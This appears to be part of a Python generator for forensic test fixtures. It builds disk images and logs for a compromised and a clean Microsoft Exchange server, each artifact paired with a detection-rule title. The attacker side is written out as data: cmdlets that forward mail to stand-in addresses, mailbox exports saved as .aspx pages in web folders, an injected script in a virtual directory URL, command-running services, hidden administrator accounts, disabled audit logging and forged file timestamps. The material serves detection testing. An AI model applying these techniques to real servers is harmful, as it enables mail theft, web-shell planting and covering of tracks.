            ("in a static folder", "Program was recorded in a folder that serves files only", RECORDED_SHA1),
            ("in an application", "Program was recorded in a web application", ""),
            ("in a temporary folder", "Program was recorded in a folder for passing files", ""),
            ("in an odd place, older layout", "Program was recorded in a place where no programs belong", "")):
        thing("program", what, AMCACHE, title, holds)
    builtin, person = (500, "Administrator"), (1001, "a.berg")
    bad[HIVES + "SAM"] = sam(builtin, (1002, "support$"), (1003, "helper"), (501, "Guest"), (1004, "posing"),
                             administrators=(500, 501, 1002, 1003))
    thing("account", "guest", HIVES + "SAM", "Guest account that is on, or an administrator", "Guest")
    thing("account", "acts as another", HIVES + "SAM", "Local account that acts as another", "posing")
    good[HIVES + "SAM"] = sam(builtin, person, administrators=(500,))
    thing("account", "not listed", HIVES + "SAM", "Local administrator under a name that is not listed", "support$")
    thing("account", "administrator", HIVES + "SAM", "Local administrator beside the built-in one")


# --- event logs ------------------------------------------------------------------------------------------------

MANAGEMENT = LOGS + "MSExchange Management.evtx"
SHELL_LOG = LOGS + "Microsoft-Windows-PowerShell%4Operational.evtx"
OLD_SHELL_LOG = LOGS + "Windows PowerShell.evtx"
DEFENDER_LOG = LOGS + "Microsoft-Windows-Windows Defender%4Operational.evtx"
SCRIPTED = 'http://f/<script language="JScript" runat="server">function Page_Load(){}</script>'
OAB = "Set-OabVirtualDirectory"
# (kind, cmdlet, parameters of the intruder, of its twin, rule)
CMDLETS = [
    ("virtual directory", OAB, {"Identity": "OAB", "ExternalUrl": SCRIPTED},
     {"Identity": "OAB", "ExternalUrl": "https://mail.example.com/OAB"},
     "Script put into a virtual directory's address, as Exchange's event log recorded it"),
    ("forwarding", "Set-Mailbox", {"Identity": "director", "ForwardingSmtpAddress": "smtp:box@mail.example"},
     {"Identity": "director", "ProhibitSendQuota": "2GB"}, "Mailbox passes its mail on to an address"),
    ("forwarding", "Set-Mailbox", {"Identity": "director", "ForwardingAddress": "helper"},
     {"Identity": "director", "ForwardingAddress": "$null"},
     "Mailbox passes its mail on to a recipient of the organisation"),
    ("forwarding", "New-TransportRule", {"Name": "Archive", "BlindCopyTo": "box@mail.example"},
     {"Name": "Disclaimer", "ApplyHtmlDisclaimerText": "Private"}, "Rule of the transport copies or diverts mail"),
    ("forwarding", "New-JournalRule", {"Name": "a", "JournalEmailAddress": "box@mail.example"},
     {"Name": "a", "Scope": "Global"}, "Journal rule sends copies of mail to an address"),
    ("inbox rule", "New-InboxRule", {"Mailbox": "director", "RedirectTo": "box@mail.example"},
     {"Mailbox": "director", "MoveToFolder": "director:\\Lists"}, "Inbox rule that passes mail on"),
    ("inbox rule", "Set-InboxRule", {"Identity": "director\\.", "DeleteMessage": "True",
                                     "SubjectOrBodyContainsWords": "invoice"},
     {"Identity": "director\\news", "DeleteMessage": "True", "From": "news@example.com"},
     "Inbox rule that hides messages about money or an intrusion"),
    ("permission", "Add-MailboxPermission", {"Identity": "director", "User": "EXAMPLE\\helper", "AccessRights": "FullAccess"},
     {"Identity": "director", "User": "EXAMPLE\\helper", "AccessRights": "ReadPermission"},
     "Somebody was given a whole mailbox"),
    ("permission", "Add-MailboxPermission", {"Identity": "director", "User": "Everyone", "AccessRights": "FullAccess"},
     {"Identity": "director", "User": "Everyone", "AccessRights": "FullAccess", "Deny": "True"},
     "Everybody was given a whole mailbox"),
    ("permission", "Add-MailboxFolderPermission", {"Identity": "director:\\Inbox", "User": "helper", "AccessRights": "Reviewer"},
     {"Identity": "director:\\Calendar", "User": "helper", "AccessRights": "Reviewer"},
     "Somebody was given a mailbox's folder of messages"),
    ("permission", "Set-MailboxFolderPermission", {"Identity": "director:\\Inbox", "User": "Default", "AccessRights": "Reviewer"},
     {"Identity": "director:\\Calendar", "User": "Default", "AccessRights": "AvailabilityOnly"},
     "A mailbox's folder was opened to everybody"),
    ("permission", "Add-ADPermission", {"Identity": "DB01", "User": "EXAMPLE\\helper", "ExtendedRights": "Receive-As"},
     {"Identity": "Relay", "User": "EXAMPLE\\relay", "ExtendedRights": "ms-Exch-SMTP-Accept-Any-Recipient"},
     "Account may read mailboxes by a right of the directory"),
    ("role", "New-ManagementRoleAssignment", {"Role": "ApplicationImpersonation", "User": "helper"},
     {"Role": "View-Only Recipients", "User": "helper"}, "Account may act as any mailbox's owner"),
    ("role", "New-ManagementRoleAssignment", {"Role": "Mailbox Import Export", "User": "helper"},
     {"Role": "Mail Recipients", "User": "helper"}, "Account may export mailboxes"),
    ("role", "Add-RoleGroupMember", {"Identity": "Organization Management", "Member": "helper"},
     {"Identity": "Help Desk", "Member": "helper"}, "Account was made an administrator of Exchange"),
    ("export", "New-MailboxExportRequest", {"Mailbox": "director", "FilePath": "\\\\files\\pst$\\d.pst"}, None,
     "Mailbox was exported to a file"),
    ("export", "New-MailboxExportRequest", {"Mailbox": "director", "FilePath": "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\m.aspx"},
     None, "Page written by exporting a mailbox"),
    ("export", "New-MailboxExportRequest", {"Mailbox": "director", "FilePath": "C:\\inetpub\\wwwroot\\aspnet_client\\m.pst"},
     None, "Mailbox exported into a web folder"),
    ("export", "Remove-MailboxExportRequest", {"Identity": "director\\MailboxExport"}, None,
     "Request for an export of a mailbox was taken away"),
    ("export", "New-ExchangeCertificate", {"GenerateRequest": "True", "RequestFile": "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\n.aspx"},
     {"GenerateRequest": "True", "RequestFile": "\\\\files\\certs\\mail.req"}, "Page written as a request for a certificate"),
    ("transport agent", "Install-TransportAgent", {"Name": "Mail Helper", "AssemblyPath": "C:\\ProgramData\\helper\\agent.dll"},
     None, "Transport agent was installed from a place where none belongs"),
    ("transport agent", "Install-TransportAgent", {"Name": "Signer", "AssemblyPath": "C:\\Program Files\\Signer\\agent.dll"},
     None, "Transport agent was installed"),
    ("logging", "Set-AdminAuditLogConfig", {"AdminAuditLogEnabled": "False"}, {"AdminAuditLogEnabled": "True"},
     "Exchange was told to record less"),
    ("permission", "Set-CASMailbox", {"Identity": "director", "ActiveSyncAllowedDeviceIDs": "4F1E"},
     {"Identity": "director", "ActiveSyncEnabled": "True"}, "Device was allowed for a mailbox by its number"),
    ("permission", "New-App", {"OrganizationApp": "True", "Url": "https://mail.example/app.xml"}, None,
     "Add-in was installed for mailboxes"),
]


def rendered(parameters):
    return " ".join(f'-{name} "{value}"' for name, value in parameters.items())


def log(host, channel, events):
    """events: (id, provider, data); data as the EVTX writer takes it."""
    writer = evtxgen.EvtxWriter(None)
    for i, (event_id, provider, data) in enumerate(events):
        writer.add(provider=provider, event_id=event_id, channel=channel, computer=host + ".example.com",
                   time=WHEN % (10, i // 60, i % 60) + "Z", data=data,
                   guid=None if all(isinstance(d, str) for d in data) else "{11111111-2222-3333-4444-555555555555}")
    return bytes(writer.to_bytes())


def cmdlet_event(name, parameters):
    return (1, "MSExchange CmdletLogs", [name, rendered(parameters), "EXAMPLE\\admin", "S-1-5-21-1-2-3-500",
                                         "S-1-5-21-1-2-3-500", "Remote-ManagementShell", "4711 w3wp"])


def parts(name, parameters):
    return "\n".join([f'CommandInvocation({name}): "{name}"'] + [
        f'ParameterBinding({name}): name="{n}"; value="{v}"' for n, v in parameters.items()])


OF_SHELL = [  # (kind, cmdlet, parameters, twin's, rule)
    ("forwarding", "Set-Mailbox", {"Identity": "director", "ForwardingSmtpAddress": "box@mail.example"},
     {"Identity": "director", "ProhibitSendQuota": "2GB"}, "Mail is passed on by a command of PowerShell"),
    ("permission", "Add-MailboxPermission", {"Identity": "director", "User": "helper", "AccessRights": "FullAccess"},
     {"Identity": "director", "User": "helper", "AccessRights": "ReadPermission"},
     "Mailboxes were opened by a command of PowerShell"),
    ("export", "New-MailboxExportRequest", {"Mailbox": "director", "FilePath": "\\\\files\\d.pst"}, None,
     "Mailbox was exported by a command of PowerShell"),
]
SECURITY = [  # (kind, id, data, twin's, rule)
    ("account", 4720, {"TargetUserName": "support$", "SubjectUserName": "BAD01$"},
     {"TargetUserName": "a.berg", "SubjectUserName": "admin"}, "Account was made under a name that is not listed"),
    ("account", 4732, {"MemberSid": "S-1-5-21-1-2-3-1105", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544",
                       "SubjectUserName": "BAD01$"},
     {"MemberSid": "S-1-5-21-1-2-3-1105", "TargetUserName": "Performance Log Users", "TargetSid": "S-1-5-32-559",
      "SubjectUserName": "GOOD01$"}, "The server itself made an account a local administrator"),
    ("account", 4732, {"MemberSid": "S-1-5-21-1-2-3-1106", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544",
                       "SubjectUserName": "admin"}, None, "Account was made a local administrator"),
    ("role", 4756, {"MemberName": "CN=helper,CN=Users,DC=example,DC=com", "TargetUserName": "Organization Management"},
     {"MemberName": "CN=helper,CN=Users,DC=example,DC=com", "TargetUserName": "All Staff"},
     "Account was put into a group that rules Exchange"),
    ("service", 4697, {"ServiceName": "mxupd", "ServiceFileName": "C:\\Windows\\Temp\\a.exe"},
     {"ServiceName": "Vendor", "ServiceFileName": "C:\\Program Files\\Vendor\\a.exe"},
     "Service was installed from a place where none belongs, by the audit"),
    ("service", 4697, {"ServiceName": "mxcmd", "ServiceFileName": "%COMSPEC% /Q /c echo x ^> C:\\out"}, None,
     "Service that runs a command was installed, by the audit"),
    ("task", 4698, {"TaskName": "\\Winner", "TaskContent": "<Task><Actions><Exec><Command>C:\\Windows\\Temp\\a.exe</Command></Exec></Actions></Task>"},
     {"TaskName": "\\Vendor", "TaskContent": "<Task><Actions><Exec><Command>C:\\Program Files\\V\\a.exe</Command></Exec></Actions></Task>"},
     "Scheduled task that runs a program from an odd place, by the audit"),
    ("gone", 4663, {"SubjectUserName": "BAD01$", "ProcessName": "C:\\Windows\\System32\\cmd.exe", "AccessList": "%%1537",
                    "ObjectName": "C:\\inetpub\\wwwroot\\aspnet_client\\gone.aspx"},
     {"SubjectUserName": "admin", "ProcessName": "C:\\Windows\\explorer.exe", "AccessList": "%%1537",
      "ObjectName": "C:\\Users\\admin\\Documents\\old.aspx"},
     "Page that Exchange does not ship was deleted, as the file audit saw it"),
]
SYSTEM = [
    ("service", 7045, {"ServiceName": "mxupd", "ImagePath": "%COMSPEC% /Q /c echo x ^> C:\\out"},
     {"ServiceName": "Vendor", "ImagePath": "\"C:\\Program Files\\Vendor\\a.exe\" -k"}, "Service that runs a command was installed"),
    ("service", 7045, {"ServiceName": "mxtmp", "ImagePath": "C:\\Windows\\Temp\\a.exe"}, None,
     "Service was installed from a place where none belongs"),
]
DEFENDER = [
    ("gone", 1117, {"Threat Name": "Backdoor:ASP/Chopper.A", "Path": "file:_C:\\inetpub\\wwwroot\\app\\gone.aspx",
                    "Action Name": "Quarantine", "Remediation User": "EXAMPLE\\admin"},
     {"Threat Name": "Virus:DOS/EICAR_Test_File", "Path": "file:_C:\\Users\\u\\eicar.com", "Action Name": "Quarantine",
      "Remediation User": "NT AUTHORITY\\SYSTEM"}, "Antivirus removed a web shell that it knows by name"),
    ("gone", 1117, {"Threat Name": "Backdoor:ASP/Dirtelti.A", "Path": "file:_C:\\inetpub\\wwwroot\\app\\gone2.aspx",
                    "Action Name": "Quarantine", "Remediation User": "EXAMPLE\\admin"}, None,
     "Antivirus removed a page from a web folder"),
    ("gone", 1116, {"Threat Name": "Backdoor:ASP/Dirtelti.A", "Path": "file:_C:\\inetpub\\wwwroot\\app\\gone2.aspx"}, None,
     "Antivirus found a page in a web folder"),
]


def windows_log(bad, good, place, channel, provider, rows):
    named = [[(i, provider, list(d.items())) for _, i, d, _, _ in rows],
             [(i, provider, list(d.items())) for _, i, _, d, _ in rows if d]]
    bad[place], good[place] = log("BAD01", channel, named[0]), log("GOOD01", channel, named[1])
    for kind, event_id, _, _, title in rows:
        thing(kind, f"event {event_id}", place, title)


def event_logs(bad, good):
    bad[MANAGEMENT] = log("BAD01", "MSExchange Management", [cmdlet_event(n, p) for _, n, p, _, _ in CMDLETS])
    good[MANAGEMENT] = log("GOOD01", "MSExchange Management", [cmdlet_event(n, t) for _, n, _, t, _ in CMDLETS if t])
    for kind, name, _, _, title in CMDLETS:
        thing(kind, name + ", by the event log", MANAGEMENT, title)
    channel, provider = "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell"
    events, twins, old, old_twins = [], [], [], []
    for kind, name, parameters, twin, title in OF_SHELL:
        for told, told_old, p in ((events, old, parameters), (twins, old_twins, twin or {"Identity": "x"})):
            name_of = name if p is not twin and (p is parameters) or twin else name.replace("New-", "Get-")
            told.append((4104, provider, [("ScriptBlockText", name_of + " " + rendered(p))]))
            told.append((4103, provider, [("ContextInfo", "x"), ("UserData", ""), ("Payload", parts(name_of, p))]))
            told_old.append((800, "PowerShell", [name_of, "DetailSequence=1", parts(name_of, p)]))
        thing(kind, name + ", by PowerShell's log", SHELL_LOG, title)
        thing(kind, name + ", by PowerShell's old log", OLD_SHELL_LOG, title)
    bad[SHELL_LOG], good[SHELL_LOG] = log("BAD01", channel, events), log("GOOD01", channel, twins)
    bad[OLD_SHELL_LOG] = log("BAD01", "Windows PowerShell", old)
    good[OLD_SHELL_LOG] = log("GOOD01", "Windows PowerShell", old_twins)
    windows_log(bad, good, LOGS + "Security.evtx", "Security", "Microsoft-Windows-Security-Auditing", SECURITY)
    windows_log(bad, good, LOGS + "System.evtx", "System", "Service Control Manager", SYSTEM)
    windows_log(bad, good, DEFENDER_LOG, "Microsoft-Windows-Windows Defender/Operational",
                "Microsoft-Windows-Windows Defender", DEFENDER)


# --- logs of Exchange and of the web server ----------------------------------------------------------------

def cell(text):
    return '"' + text.replace('"', '""') + '"' if set(text) & set('",\n') else text


def exchange_log(kind, columns, rows):
    lines = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002", f"#Log-type: {kind}",
             "#Date: " + WHEN % (9, 0, 0) + ".000Z", "#Fields: " + ",".join(columns)]
    for i, row in enumerate(rows):
        values = {columns[0]: WHEN % (11, i // 60, i % 60) + ".123Z", **row}
        lines.append(",".join(cell(values.get(c, "")) for c in columns))
    return "\r\n".join(lines).encode() + b"\r\n"


def ecp_command(name, parameters):
    command = name + "".join(".%s='%s'" % (n, v.replace("'", "''")) for n, v in parameters.items())
    return "S:TIME=20;'S:CMD=" + command.replace("'", "''") + "';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=;S:BLD=15.1.2106.2"


def mailbox_logs(bad, good):
    """The same cmdlets in Exchange's other logs."""
    logs = (
        ("the control panel's log", EX + "Logging/ECP/Server/ECPServer20210305-1.LOG", "ECP Server Log",
         ["TimeStamp", "ServerName", "EventId", "EventData"],
         lambda host, n, p: {"ServerName": host, "EventId": "ECP.Request", "EventData": ecp_command(n, p)}),
        ("remote PowerShell's log", EX + "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030511-1.LOG",
         "Rps Cmdlet Logs", ["DateTime", "RequestId", "ServerHostName", "ProcessName", "AuthenticatedUser",
                             "ClientApplication", "Cmdlet", "Parameters", "CmdletUniqueId", "ExecutionResult"],
         lambda host, n, p: {"ServerHostName": host, "AuthenticatedUser": "EXAMPLE\\admin", "Cmdlet": n,
                             "Parameters": rendered(p), "ExecutionResult": "Success"}),
        ("the audit's queue", EX + "Logging/LocalQueue/Exchange/audit20210305-1.LOG", "audit",
         ["Timestamp", "Server", "TenantId", "RecordType", "Data", "UserKey", "RecordId", "Operation", "Workload",
          "ResultStatus", "Version", "Scope"],
         lambda host, n, p: {"Server": host, "RecordType": "ExchangeAdmin", "Operation": n, "ResultStatus": "True",
                             "Data": json.dumps({"Operation": n, "UserId": "admin", "Parameters": [
                                 {"Name": k, "Value": v} for k, v in p.items()]})}),
    )
    for source, place, log_type, columns, row in logs:
        bad[place] = exchange_log(log_type, columns, [row("BAD01", n, p) for _, n, p, _, _ in CMDLETS])
        good[place] = exchange_log(log_type, columns, [row("GOOD01", n, t) for _, n, _, t, _ in CMDLETS if t])
        for kind, name, _, _, title in CMDLETS:
            if name == OAB:
                title = ("Script put into a virtual directory's address, as the control panel logged it" if "panel" in source
                         else "Script put into a virtual directory's address, as Exchange's other logs of cmdlets recorded it")
            thing(kind, f"{name}, by {source}", place, title)


RULES_URL = "/RulesEditor/InboxRules.svc/"
REQUESTS = [  # (kind, stem, user, status, twin's stem and user, rule of IIS, of HttpProxy)
    ("inbox rule", "/ecp/director@example.com" + RULES_URL + "NewObject", "EXAMPLE\\helper", 200,
     "/ecp/director@example.com" + RULES_URL + "GetList", "Inbox rule was made in somebody else's mailbox through the browser",
     "Inbox rule was made in somebody else's mailbox, by the front end's log"),
    ("inbox rule", "/ecp/director@example.com" + RULES_URL + "NewObject", "", 200,
     "/ecp" + RULES_URL + "GetList", "Inbox rule was made without a logon",
     "Inbox rule was made without a logon, by the front end's log"),
    ("inbox rule", "/ecp/second@example.com" + RULES_URL + "NewObject", "", 500, None, "Inbox rule was asked for without a logon", ""),
    ("inbox rule", "/ecp" + RULES_URL + "NewObject", "EXAMPLE\\a.berg", 200, None, "Inbox rule was made in the browser", ""),
]
GETS = [
    ("gone", "/aspnet_client/gone.aspx", "/owa/auth/logon.aspx", "Page that Exchange does not ship answered"),
    ("staged", "/aspnet_client/it.zip", "/owa/auth/15.1.2106/themes/resources/favicon.ico",
     "Archive or memory dump fetched from a web folder"),
    ("staged", "/ecp/x.dmp", "/ecp/default.aspx", "Archive, dump or store fetched from a folder of Exchange"),
]


def request_logs(bad, good):
    place = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log"
    head = ("#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
            "s-port cs-username c-ip cs(User-Agent) sc-status\r\n")
    row = "2021-03-05 11:00:%02d 192.0.2.1 %s %s - 443 %s 203.0.113.9 Mozilla/5.0 %d\r\n"
    bad[place] = good[place] = head
    for i, (kind, stem, user, status, twin, title, _) in enumerate(REQUESTS):
        bad[place] += row % (i, "POST", stem, user or "-", status)
        if twin:
            good[place] += row % (i, "POST", twin, user or "EXAMPLE\\a.berg", 200)
        thing(kind, f"{stem} {status}, by IIS", place, title)
    for i, (kind, stem, twin, title) in enumerate(GETS):
        bad[place] += row % (30 + i, "GET", stem, "-", 200)
        good[place] += row % (30 + i, "GET", twin, "-", 200)
        thing(kind, stem + ", by IIS", place, title)
    bad[place], good[place] = bad[place].encode(), good[place].encode()
    proxy = EX + "Logging/HttpProxy/Ecp/HttpProxy_2021030511-1.LOG"
    columns = ["DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "Protocol", "UrlHost",
               "UrlStem", "ProtocolAction", "AuthenticatedUser", "AnchorMailbox", "UserAgent", "ClientIpAddress",
               "ServerHostName", "HttpStatus", "BackEndStatus", "Method", "RoutingHint", "BackEndCookie", "UrlQuery",
               "GenericInfo"]

    def proxied(host, stem, user, status):
        return {"MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2106", "RevisionVersion": "2", "Protocol": "Ecp",
                "UrlStem": stem, "AuthenticatedUser": user, "ServerHostName": host, "HttpStatus": str(status),
                "BackEndStatus": str(status), "Method": "POST", "ClientIpAddress": "203.0.113.9"}
    bad[proxy] = exchange_log("HttpProxy Logs", columns, [proxied("BAD01", r[1], r[2], r[3]) for r in REQUESTS])
    good[proxy] = exchange_log("HttpProxy Logs", columns, [proxied("GOOD01", r[4], "EXAMPLE\\a.berg", 200) for r in REQUESTS if r[4]])
    for r in REQUESTS:
        if r[6]:
            thing(r[0], f"{r[1]} {r[3]}, by the front end", proxy, r[6])
    activity = EX + "Logging/ECP/Activity/ECPActivity_11500_20210305-1.LOG"
    for files, host, call in ((bad, "BAD01", "NewObject"), (good, "GOOD01", "GetList")):
        files[activity] = exchange_log("ECP Activity Context Log", ["TimeStamp", "ServerName", "EventId", "EventData"], [
            {"ServerName": host, "EventId": "Request", "EventData": "S:PSA=<PII>a.berg@example.com</PII>;S:URL=https://localhost:444/ecp"
             + RULES_URL + call + "?msExchEcpCanary=x."}])
    thing("inbox rule", "by the control panel's activity", activity, "Inbox rule was made in the browser, by the control panel")


def web_services(bad, good):
    place = EX + "Logging/Ews/Ews_2021030511-1.LOG"
    columns = ["DateTime", "RequestId", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser", "UserAgent", "ClientIpAddress",
               "ServerHostName", "SoapAction", "HttpStatus", "ImpersonatedUser", "ProxyAsUser", "ActAsUser"]
    rows = (
        ("inbox rule", {"SoapAction": "UpdateInboxRules"}, "GetInboxRules", "Rules of a mailbox were changed over EWS"),
        ("inbox rule", {"SoapAction": "UpdateInboxRules", "ImpersonatedUser": "director@example.com"}, "GetInboxRules",
         "Rules of somebody else's mailbox were changed over EWS"),
        ("permission", {"SoapAction": "AddDelegate"}, "GetDelegate", "Deputy of a mailbox was set over EWS"),
        ("export", {"SoapAction": "SyncFolderItems", "UserAgent": "python-requests/2.25.1"}, "SyncFolderItems",
         "Mailbox was read over EWS by a scripting program"))
    same = {"AuthenticatedUser": "a.berg@example.com", "UserAgent": "MacOutlook/16.78", "ClientIpAddress": "203.0.113.9",
            "HttpStatus": "200"}
    bad[place] = exchange_log("EWS Logs", columns, [{**same, "ServerHostName": "BAD01", **r} for _, r, _, _ in rows])
    good[place] = exchange_log("EWS Logs", columns, [{**same, "ServerHostName": "GOOD01", "SoapAction": t} for _, _, t, _ in rows])
    for kind, row, _, title in rows:
        thing(kind, row["SoapAction"] + " over EWS", place, title)
    place = EX + "Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2021030511-1.LOG"
    columns = ["DateTime", "RequestId", "UrlHost", "UrlStem", "AuthenticatedUser", "ClientIpAddress", "ServerHostName",
               "HttpStatus", "Action", "CommandName", "SessionId", "ShellId", "ClientInfo", "UrlQuery"]
    for files, host, command in ((bad, "BAD01", "New-MailboxExportRequest"), (good, "GOOD01", "Get-Mailbox")):
        files[place] = exchange_log("Rps Http Logs", columns, [
            {"UrlStem": "/powershell", "ServerHostName": host, "HttpStatus": "200", "Action": "Command", "CommandName": command,
             "AuthenticatedUser": "EXAMPLE\\admin", "ClientInfo": "Microsoft WinRM Client"}])
    thing("export", "by requests of remote PowerShell", place, "Mailbox was exported to a file")


# --- staged, gone, builds --------------------------------------------------------------------------------------

def staged(bad, good):
    in_web = "Password store or mail store in a web folder"
    for what, place, content, title, twin in (
            ("dump", CLIENT + "logo.gif", MINIDUMP, "Memory dump in a web folder", "C/Windows/Temp/w3wp.exe.4711.dmp"),
            ("hive", CLIENT + "s.css", RAW_HIVE, in_web, ""),
            ("ntds.dit", CLIENT + "n.png", ESE, in_web, "C/Windows/SoftwareDistribution/DataStore/DataStore.edb"),
            ("hive in an open place", "C/Windows/Temp/s.tmp", RAW_HIVE,
             "Password store or memory dump in a place that everybody can write to", ""),
            ("ntds.dit in an open place", "C/Windows/Temp/ntds.tmp", ESE,
             "Password store or memory dump in a place that everybody can write to", ""),
            ("archive", CLIENT + "it.jpg", SEVEN, "Archive in a web folder where none ships", "C/Users/admin/Documents/it.7z"),
            ("archive in an open place", "C/ProgramData/it.zip", ZIP,
             "Archive with a very short name in a place that everybody can write to", "C/ProgramData/Vendor/it.zip"),
            ("mail store", APP + "m.css", PST, "Mail store in a web folder", "C/Users/admin/Documents/m.pst")):
        bad[place] = content
        if twin:
            good[twin] = content
        thing("staged", what, place, title)


def usn_record(entry, parent, reason, folder, name, at):
    text = name.encode("utf-16-le")
    body = struct.pack("<HHQQQQIIIIHH", 2, 0, entry, parent, at, 132590304000000000 + at, reason, 0, 0,
                       0x10 if folder else 0x20, len(text), 60) + text
    size = (4 + len(body) + 7) // 8 * 8
    return struct.pack("<I", size) + body + bytes(size - 4 - len(body))


def journal(folder, page):
    out = b""
    for entry, parent, reason, is_folder, name in (
            (60 | 1 << 48, 5 | 5 << 48, 0x100, True, folder), (61 | 1 << 48, 60 | 1 << 48, 0x100, False, page),
            (61 | 1 << 48, 60 | 1 << 48, 0x80000200, False, page),
            (62 | 1 << 48, 60 | 1 << 48, 0x1000, False, "p.gif"),
            (62 | 1 << 48, 60 | 1 << 48, 0x2000, False, "p.aspx" if folder == "aspnet_client" else "q.gif")):
        out += usn_record(entry, parent, reason, is_folder, name, len(out))
    return out + bytes(4096 - len(out))


def gone(bad, good):
    for files, folder in ((bad, "aspnet_client"), (good, "drafts")):
        files[JOURNAL] = journal(folder, "gone.aspx")
    thing("gone", "written, by the journal", JOURNAL, "Page made in a web folder where none ships, by the change journal")
    thing("gone", "deleted, by the journal", JOURNAL, "Page deleted in a web folder where none ships, by the change journal")
    thing("gone", "renamed, by the journal", JOURNAL, "File renamed from a harmless kind to a page")
    thing("gone", "archive, by the master file table", MFT,
          "Archive, dump or mail store in a reachable folder, by the master file table", "a.7z")
    thing("web shell", "by its content in the master file table", MFT,
          "Script that runs what a request says, in the master file table")
    thing("web shell", "its times set back", MFT, "Page in a web folder whose times were set back",
          "supp0rt.aspx says 2016-02-15T08:53:20Z")
    thing("web shell", "an application's page, its times set back", MFT,
          "Page of a web site whose times are older than its name")
    thing("gone", "by the master file table", MFT, "Page in a web folder where none ships, by the master file table", "gone.aspx")
    for files, page, number in ((bad, "gone.aspx", 0x1F3A90C3), (good, "logon.aspx", 0x1F3A90C2)):
        files["C/" + background.compiled_path(page, number)] = background.compiled(page, "App_Web_made").encode()
    thing("gone", "residue of compiling", "C/" + background.compiled_path("gone.aspx", 0x1F3A90C3),
          "Remains of a compiled page that Exchange does not ship")


def builds(bad, good):
    for files, build in ((bad, (15, 1, 2106, 2)), (good, (15, 1, 2507, 6))):
        files[EX + "Bin/ExSetup.exe"] = configuration.program(version=build)


# --- all of it -------------------------------------------------------------------------------------------------

OLD = 131_000_000_000_000_000  # 2016-02-15T08:53:20Z, to the second


def volume(path, files, deleted=(), old=()):
    """An NTFS volume with these files, some with times that are old and whole seconds; gives its
    master file table."""
    ntfs.make(path, 24 << 20)
    v = ntfs.Volume(path)
    for place, content in files.items():
        at = place[1:]
        if place == MFT:
            continue
        if place == JOURNAL:
            v.write("/$Extend/$UsnJrnl", content, "$J")
            continue
        v.mkdir(at.rpartition("/")[0])
        v.write(at, content)
    for place in deleted:
        v.mkdir(place.rpartition("/")[0])
        v.write(place, ZIP if place.endswith(".7z") else b"gone")
    for place in deleted:  # all are there before the first goes, or one would take another's entry
        v.delete(place)
    v.close()
    for name, at in old:
        ntfs.forge_times(path, name, at, at)
    v = ntfs.Volume(path)
    table = v.read("/$MFT")
    v.close()
    return table


def files(work):
    """Of both servers; leaves their volumes in the folder `work` as BAD01.dd and GOOD01.dd."""
    bad, good = {}, {}
    THINGS.clear()
    for make in (pages, own_pages, settings, programs, registry, starts, event_logs, mailbox_logs, request_logs, web_services, staged, gone, builds):
        make(bad, good)
    bad[MFT] = volume(str(work / "BAD01.dd"), bad,
                      ["/inetpub/wwwroot/aspnet_client/gone.aspx", "/inetpub/wwwroot/aspnet_client/a.7z"],
                      [("supp0rt.aspx", OLD), ("t.aspx", OLD)])
    good[MFT] = volume(str(work / "GOOD01.dd"), good, ["/Users/admin/Documents/gone.aspx", "/Users/admin/Documents/a.7z"],
                       [("logon.aspx", OLD), ("t.aspx", OLD + 1234567)])
    return bad, good
